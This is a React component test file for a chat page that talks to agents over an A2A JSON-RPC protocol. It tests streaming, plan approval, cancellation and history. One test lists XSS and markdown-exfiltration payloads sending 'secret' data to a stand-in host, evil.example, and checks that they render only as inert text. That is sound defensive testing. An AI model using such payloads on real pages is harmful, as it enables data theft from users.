import { screen } from '@testing-library/react'
import { userEvent } from '@testing-library/user-event'
import { describe, expect, it } from 'vitest'
import { events, open, platform, type Call } from '../../test/page.tsx'
import ChatPage from './ChatPage.tsx'

const task = (state: string, more = {}) => ({ id: 't1', contextId: 'c1', status: { state }, ...more })
const rpc = (result: unknown) => ({ jsonrpc: '2.0', id: '1', result })

function agent(answers: Record<string, (call: Call) => unknown>) {
  return platform({
    'POST /a2a/agents/echo': (call: Call) => {
      const { method } = call.body as { method: string }
      return answers[method]?.(call)
    },
    'GET /api/v1/tasks/t1/steps': { items: [], nextPageToken: '' },
  })
}

async function say(text: string) {
  await userEvent.type(screen.getByRole('textbox', { name: 'Message' }), `${text}{Enter}`)
}

describe('ChatPage', () => {
  it('puts together an answer that arrives in pieces', async () => {
    const piece = (text: string, append: boolean) => ({
      artifactUpdate: { taskId: 't1', contextId: 'c1', artifact: { artifactId: 'a', parts: [{ text }] }, append },
    })
    const calls = agent({
      SendStreamingMessage: () =>
        events(
          rpc({ task: task('TASK_STATE_SUBMITTED') }),
          rpc(piece('Hel', false)),
          rpc(piece('lo', true)),
          rpc({ statusUpdate: { taskId: 't1', contextId: 'c1', status: { state: 'TASK_STATE_COMPLETED' } } }),
        ),
    })
    open('/chat/:agent', '/chat/echo', <ChatPage />)
    await say('Hi')
    expect(await screen.findByText('Hello')).toBeTruthy()
    expect(await screen.findByText('Completed')).toBeTruthy()
    expect(screen.getByRole('link', { name: 'Open the task' }).getAttribute('href')).toBe('/tasks/t1')
    expect(calls.find(({ path }) => path.startsWith('/a2a/'))?.headers.get('A2A-Version')).toBe('1.0')
  })

  it('shows a plan and says yes to exactly that one', async () => {
    const uri = 'https://tandem.io/a2a/ext/plan/v1'
    const plan = { hash: 'h1', steps: [{ tool: 'database/query', why: 'Counts them' }] }
    const asking = task('TASK_STATE_INPUT_REQUIRED', {})
    Object.assign(asking.status, { message: { messageId: 'm', role: 'ROLE_AGENT', parts: [{ text: 'I would do this' }], metadata: { [uri]: plan } } })
    let sent = 0
    const calls = agent({
      SendStreamingMessage: () =>
        sent++ === 0
          ? events(rpc({ task: asking }))
          : events(rpc({ task: task('TASK_STATE_COMPLETED', { artifacts: [{ artifactId: 'a', parts: [{ text: '42 of them' }] }] }) })),
    })
    open('/chat/:agent', '/chat/echo', <ChatPage />)
    await say('How many?')
    const shown = await screen.findByRole('region', { name: 'Plan of echo' })
    expect(shown.textContent).toContain('database/query Counts them')
    await userEvent.click(await screen.findByRole('button', { name: 'Agree' }))
    expect(await screen.findByText('42 of them')).toBeTruthy()
    expect(screen.queryByRole('button', { name: 'Agree' })).toBeNull()
    const { params } = calls.filter(({ path }) => path.startsWith('/a2a/')).at(-1)?.body as { params: { message: { taskId: string; metadata: unknown } } }
    expect(params.message.taskId).toBe('t1')
    expect(params.message.metadata).toEqual({ [uri]: { hash: 'h1', agree: true } })
  })

  it('shows what an agent answers as text: nothing in it is loaded or can be followed', async () => {
    const hostile = [
      '![stolen](https://evil.example/log?data=secret)',
      '[click](javascript:alert(1)) <https://evil.example/?data=secret>',
      '<img src=x onerror="fetch(1)"><iframe src="https://evil.example"></iframe><script>alert(1)</script>',
      '<a href="https://evil.example">here</a><style>@import url(https://evil.example)</style>',
    ].join('\n')
    agent({
      SendStreamingMessage: () =>
        events(rpc({ task: task('TASK_STATE_COMPLETED', { artifacts: [{ artifactId: 'a', parts: [{ text: hostile }] }] }) })),
    })
    open('/chat/:agent', '/chat/echo', <ChatPage />)
    await say('Hi')
    expect((await screen.findByText(/stolen/)).textContent).toContain(hostile)
    expect(document.querySelectorAll('img, iframe, script, style, object, [src], [onerror]')).toHaveLength(0)
    for (const link of document.querySelectorAll('a')) expect(link.getAttribute('href')).toMatch(/^\/(?!\/)/)
  })

  it('goes on in the same conversation', async () => {
    const calls = agent({ SendStreamingMessage: () => events(rpc({ task: task('TASK_STATE_COMPLETED') })) })
    open('/chat/:agent', '/chat/echo', <ChatPage />)
    await say('One')
    await screen.findByText('Completed')
    await say('Two')
    await expect.poll(() => screen.queryAllByText('Completed')).toHaveLength(2)
    const sent = calls
      .filter((call) => (call.body as { method?: string } | undefined)?.method === 'SendStreamingMessage')
      .map((call) => (call.body as { params: { message: { contextId?: string } } }).params.message.contextId)
    expect(sent).toEqual([undefined, 'c1'])
  })

  it('asks how the task is when the line breaks', async () => {
    agent({
      SendStreamingMessage: () => events(rpc({ task: task('TASK_STATE_WORKING') })),
      GetTask: () =>
        rpc(task('TASK_STATE_COMPLETED', { artifacts: [{ artifactId: 'a', parts: [{ text: 'Done after all' }] }] })),
    })
    open('/chat/:agent', '/chat/echo', <ChatPage />)
    await say('Hi')
    expect(await screen.findByText('Done after all', undefined, { timeout: 3000 })).toBeTruthy()
  })

  it('stops by cancelling the task', async () => {
    const endless = new Response(
      new ReadableStream({
        start: (to) =>
          to.enqueue(new TextEncoder().encode(`data: ${JSON.stringify(rpc({ task: task('TASK_STATE_WORKING') }))}\n\n`)),
      }),
      { headers: { 'Content-Type': 'text/event-stream' } },
    )
    agent({ SendStreamingMessage: () => endless, CancelTask: () => rpc(task('TASK_STATE_CANCELED')) })
    open('/chat/:agent', '/chat/echo', <ChatPage />)
    await say('Hi')
    await screen.findByText('Working')
    await userEvent.click(screen.getByRole('button', { name: 'Stop' }))
    expect(await screen.findByText('Stopped')).toBeTruthy()
  })

  it('shows a refusal in the agent’s place', async () => {
    agent({
      SendStreamingMessage: () =>
        Response.json({ jsonrpc: '2.0', id: '1', error: { code: -32000, message: 'agent-suspended: echo takes no tasks' } }),
    })
    open('/chat/:agent', '/chat/echo', <ChatPage />)
    await say('Hi')
    expect(await screen.findByText('agent-suspended: echo takes no tasks')).toBeTruthy()
  })

  it('shows the conversation that the address names', async () => {
    agent({
      ListTasks: () =>
        rpc({
          tasks: [
            task('TASK_STATE_COMPLETED', {
              history: [{ messageId: 'm', role: 'ROLE_USER', parts: [{ text: 'Asked before' }] }],
              artifacts: [{ artifactId: 'a', parts: [{ text: 'Answered before' }] }],
            }),
          ],
        }),
    })
    open('/chat/:agent', '/chat/echo?context=c1', <ChatPage />)
    expect(await screen.findByText('Asked before')).toBeTruthy()
    expect(screen.getByText('Answered before')).toBeTruthy()
  })
})
